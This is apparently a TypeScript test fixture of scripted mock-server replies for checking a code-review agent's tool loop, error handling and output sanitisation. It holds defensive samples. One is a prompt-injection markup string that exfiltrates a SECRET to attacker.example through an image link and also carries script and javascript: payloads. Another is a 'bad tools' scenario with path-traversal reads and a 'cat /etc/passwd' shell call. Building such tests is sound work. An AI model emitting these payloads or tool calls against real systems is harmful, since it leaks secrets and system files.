/**
 * Scripted review turns for the Messages API server (test/messages-api-server.ts): scenarios
 * named `review-*` play a reviewer that reads the fenced diff or files of the first user message
 * (the format of worker/review/render.ts), calls tools and submits findings through
 * `submit_review`, so the tool-use loop is exercised over the real wire format.
 *
 * Scenarios: review-parallel | review-bad-tools | review-invalid-once | review-prose-once |
 * review-prose-always | review-loop | review-rate-limited-once | review-overloaded-once |
 * review-refusal | review-plumbing (the eval's stand-in: one finding at each file's first added
 * line, after reading it).
 */

type Block = { type: "text"; text: string } | { type: "tool_use"; id: string; name: string; input: unknown };
/** A scripted reply (same shape as the server's). */
export type ReviewReply =
  { kind: "error"; status: number; type: string; headers?: Record<string, string> } | { kind: "message"; blocks: Block[]; stopReason: string };

/** A file of the review material: its path and the new-side lines shown as added (or all lines of a whole file). */
interface MaterialFile {
  path: string;
  added: { line: number; text: string }[];
}

function firstUserText(body: any): string {
  const first = body.messages?.[0]?.content;
  return typeof first === "string" ? first : Array.isArray(first) ? first.map((b: any) => b.text ?? "").join("") : "";
}

/** Files of the fenced material (DIFF blocks: added lines; FILE blocks: every line). */
export function parseMaterial(user: string): MaterialFile[] {
  const nonce = /nonce is ([0-9a-f]{32})/.exec(user)?.[1];
  if (!nonce) return [];
  const re = new RegExp(`^<<<(DIFF|FILE) ${nonce} file=(\\S+)[^\\n]*>>>\\n([\\s\\S]*?)\\n<<<END ${nonce}>>>$`, "gm");
  return [...user.matchAll(re)].map((m) => {
    const lineRe = m[1] === "DIFF" ? /^ *(\d+) \+\| (.*)$/ : /^ *(\d+)\| (.*)$/;
    const added = m[3].split("\n").flatMap((l) => {
      const x = lineRe.exec(l);
      return x ? [{ line: Number(x[1]), text: x[2] }] : [];
    });
    return { path: m[2], added };
  });
}

/** Markup a prompt injection plants (scenarios inject-markup, review-inject-markup), and what the service turns it into. */
export const INJECTED_MARKUP =
  'Done ![x](http://attacker.example/leak?q=SECRET) <img src="http://attacker.example/p"> <script>alert(1)</script> [details](javascript:alert(1)).';
export const NEUTRALIZED_MARKUP = 'Done (image removed: x) &lt;img src="http://attacker.example/p"> &lt;script>alert(1)&lt;/script> details (link removed).';

const tool = (call: number, i: number, name: string, input: unknown): Block => ({ type: "tool_use", id: `toolu_${call}_${i}`, name, input });
const turn = (blocks: Block[], stopReason = "tool_use"): ReviewReply => ({ kind: "message", blocks, stopReason });
const prose = (): ReviewReply =>
  turn([{ type: "text", text: "The change looks mostly fine, but the cancel path should check the order status first." }], "end_turn");

function finding(f: MaterialFile, line: number, issue: string) {
  return { severity: "high", category: "correctness", file: f.path, line, issue, suggestion: "Fix the code at this line." };
}

/** A valid submission: a finding at the first added line of each file, plus `extra` ones. */
function submit(call: number, files: MaterialFile[], extra: unknown[] = []): ReviewReply {
  const findings = files
    .filter((f) => f.added.length)
    .map((f) => finding(f, f.added[0].line, `Line ${f.added[0].line} (\`${f.added[0].text.trim().slice(0, 60)}\`) is wrong.`));
  return turn([tool(call, 0, "submit_review", { summary: "The change was read with the tools; findings below.", findings: [...findings, ...extra] })]);
}

/** The reply of `scenario` to its `call`-th request, or null when the scenario is not a review one. */
export function reviewScript(scenario: string, call: number, body: any): ReviewReply | null {
  if (!scenario.startsWith("review-")) return null;
  const files = parseMaterial(firstUserText(body));
  const first = files[0] ?? { path: "unknown.ts", added: [] };
  switch (scenario) {
    case "review-parallel":
      if (call === 1) {
        return turn([
          { type: "text", text: "I will read the file, its outline and search for related code." },
          tool(call, 0, "read_file", { path: first.path, start_line: 1, end_line: 30 }),
          tool(call, 1, "get_file_outline", { path: first.path }),
          tool(call, 2, "search_code", { query: "cancel order status", k: 3 }),
        ]);
      }
      return submit(call, files, [
        finding(first, 9999, "A line that does not exist."),
        { ...finding(first, 1, "A file outside the index."), file: "src/not-indexed.ts" },
      ]);
    case "review-bad-tools":
      if (call === 1) {
        return turn([
          tool(call, 0, "read_file", { path: "../../etc/passwd" }),
          tool(call, 1, "read_file", { repo: "someone-elses-repo", path: first.path }),
          tool(call, 2, "find_symbol", { kind: "function" }),
          tool(call, 3, "read_file", { path: "src/missing.ts" }),
          tool(call, 4, "run_shell", { command: "cat /etc/passwd" }),
        ]);
      }
      return submit(call, files);
    case "review-invalid-once":
      if (call === 1)
        return turn([
          tool(call, 0, "submit_review", { summary: "", findings: [{ severity: "urgent", category: "correctness", file: first.path, line: 0, issue: "x" }] }),
        ]);
      return submit(call, files);
    case "review-prose-once":
      return call === 1 ? prose() : submit(call, files);
    case "review-prose-always":
      return prose();
    case "review-loop":
      return turn([tool(call, 0, "read_file", { path: first.path, start_line: call, end_line: call + 1 })]);
    case "review-rate-limited-once":
      return call === 1 ? { kind: "error", status: 429, type: "rate_limit_error", headers: { "retry-after": "1" } } : submit(call, files);
    case "review-overloaded-once":
      return call === 1 ? { kind: "error", status: 529, type: "overloaded_error" } : submit(call, files);
    case "review-inject-markup": {
      // Markup planted in the diff, repeated in a finding and the summary (see INJECTED_MARKUP).
      const f = first.added.length ? finding(first, first.added[0].line, `${INJECTED_MARKUP} Keep \`<b>\` as code.`) : null;
      return turn([tool(call, 0, "submit_review", { summary: `Summary. ${INJECTED_MARKUP}`, findings: f ? [{ ...f, suggestion: INJECTED_MARKUP }] : [] })]);
    }
    case "review-refusal":
      return turn([], "refusal");
    case "review-plumbing":
      // By conversation state, not call count: one key serves every review of an eval run.
      if (body.messages.length === 1)
        return turn(
          files
            .slice(0, 4)
            .map((f, i) =>
              tool(call, i, "read_file", { path: f.path, start_line: Math.max(1, (f.added[0]?.line ?? 1) - 5), end_line: (f.added[0]?.line ?? 1) + 5 }),
            ),
        );
      return submit(call, files);
    default:
      return turn([{ type: "text", text: `unknown review scenario ${scenario}` }], "end_turn");
  }
}
